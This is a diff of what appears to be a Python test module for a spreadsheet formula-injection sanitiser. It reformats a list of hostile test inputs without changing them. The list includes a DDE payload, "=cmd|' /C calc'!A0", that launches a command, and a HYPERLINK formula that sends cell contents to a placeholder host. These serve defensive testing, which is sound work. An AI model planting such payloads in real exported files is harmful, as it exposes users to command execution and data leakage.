@@ -22,9 +22,8 @@ from tests.profiles import examples
 RUNS = "=+-@\t\r\n＝＋－＠"  # noqa: RUF001 - typed in Japan
 HOSTILE = [
     "=1+1", "+1-1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "'", "'tis", "'-5",
-    "-5", "+5", "--5",
-    "-5.5e-3", "-", "a=1", "ann", '"=1"', "a;=1+1", "a\t=1", "x\ry", "0\r", " =1",
-    '=HYPERLINK("http://x?"&A1,"y")', "=cmd|' /C calc'!A0", "a\r\nb",
+    "-5", "+5", "--5", "-5.5e-3", "-", "a=1", "ann", '"=1"', "a;=1+1", "a\t=1", "x\ry", "0\r",
+    " =1", '=HYPERLINK("http://x?"&A1,"y")', "=cmd|' /C calc'!A0", "a\r\nb",
 ]  # fmt: skip
 TEXTS = st.text(
     st.one_of(
